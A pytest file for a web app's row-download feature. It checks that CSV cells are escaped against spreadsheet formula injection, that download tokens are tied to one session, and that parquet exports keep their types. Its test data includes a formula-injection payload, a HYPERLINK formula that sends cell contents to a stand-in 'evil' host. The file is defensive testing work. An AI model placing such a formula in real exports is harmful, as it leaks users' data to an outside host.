"""Rows to take along."""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from pages.parts.components import download
from pages.parts.components.download import FILE_PATH
from pages.parts.work.browser_session import BrowserSession
from pages.parts.work.download_permission import DownloadPermission
from pages.parts.work.spreadsheet_safe_export import as_cells, as_parquet
from tests.pages.fetched import fetch

PAGES = Path(__file__).parents[3] / "pages"
LINK = '=HYPERLINK("http://evil/?"&A1,"open")'


@pytest.mark.parametrize("text", [LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
    rows = as_cells([{"event": text, "reward": -0.5}])
    assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]
    heads = as_cells(pd.DataFrame({text: pd.Categorical([text, "a"]), "n": [1, 2]}))
    assert heads.to_dict("list") == {f"'{text}": [f"'{text}", "a"], "n": [1, 2]}


@pytest.fixture
def mine(monkeypatch: pytest.MonkeyPatch) -> Iterator[DownloadPermission]:
    """The download tokens of the session that draws the page."""
    given = DownloadPermission(BrowserSession("a", ""))
    monkeypatch.setattr(download, "download_permission", lambda client: given)
    yield given
    given.leave()


def offer(amount: int) -> None:
    """Draw a link to so many rows."""
    rows = [{"event": LINK, "reward": -0.5}] * amount
    download.download_rows("Download", lambda: rows, key="csv", name="log")


def test_downloads_contain_no_formula(mine: DownloadPermission) -> None:
    offer(1)
    answer = fetch(f"{FILE_PATH}/{mine.token}/csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="log.csv"'
    rows = list(csv.DictReader(answer.body.decode().splitlines()))
    assert rows == [{"event": f"'{LINK}", "reward": "-0.5"}]


def test_a_link_that_is_drawn_anew_stays_good(mine: DownloadPermission) -> None:
    """Streamlit's own button expired with each run, and a click at that moment failed."""
    for amount in (1, 2):
        offer(amount)
    assert fetch(f"{FILE_PATH}/{mine.token}/csv").body.count(b"HYPERLINK") == 2


@pytest.mark.parametrize("place", ["{token}/other", "another/csv"])
def test_no_other_visit_has_it(mine: DownloadPermission, place: str) -> None:
    offer(1)
    refused = fetch(f"{FILE_PATH}/{place.format(token=mine.token)}")
    assert (refused.status, b"another session" in refused.body) == (403, True)


def test_all_else_stays_as_it_is() -> None:
    frame = pd.DataFrame({"event": ["a-1", None], "chance": [0.25, 1.0], "is": [True, False]})
    assert as_cells(frame).to_csv() == frame.to_csv()


def test_all_charts_and_tables_are_drawn_where_they_are_noted_and_show_no_formula() -> None:
    drawing = re.compile(r"st\.(dataframe|data_editor|table|\w+_chart|pyplot)\(")
    texts = {str(path.relative_to(PAGES)): path.read_text() for path in PAGES.rglob("*.py")}
    found = [(name, call) for name in texts for call in drawing.findall(texts[name])]
    assert sorted(found) == [
        ("parts/scene/chart_drawing.py", "vega_lite_chart"),
        ("parts/scene/table.py", "data_editor"),
        ("parts/scene/table.py", "dataframe"),
    ]
    assert "st.dataframe(as_cells(" in texts["parts/scene/table.py"]


def test_the_same_rows_are_there_as_parquet_with_their_types(mine: DownloadPermission) -> None:
    offer(2)
    answer = fetch(f"{FILE_PATH}/{mine.token}/csv-parquet")
    assert answer.headers["content-disposition"] == 'attachment; filename="log.parquet"'
    assert pd.read_parquet(io.BytesIO(answer.body)).to_dict("list") == {
        "event": [LINK, LINK], "reward": [-0.5, -0.5],
    }  # fmt: skip
    mixed = as_parquet([{"what": "a"}, {"what": 1}, {"what": None}])
    assert pd.read_parquet(io.BytesIO(mixed))["what"].tolist()[:2] == ["a", "1"]


@pytest.mark.parametrize("odd", [[1, "b"], {"a": {}}, {}, 2**70], ids=repr)
def test_values_without_a_parquet_type_become_text(odd: object) -> None:
    found = pd.read_parquet(io.BytesIO(as_parquet([{"what": odd}, {"what": None}])))
    assert found["what"].tolist()[0] == str(odd)
    typed = as_parquet([{"what": [1, 2]}, {"what": [3]}])
    assert pd.read_parquet(io.BytesIO(typed))["what"].tolist()[1].tolist() == [3]
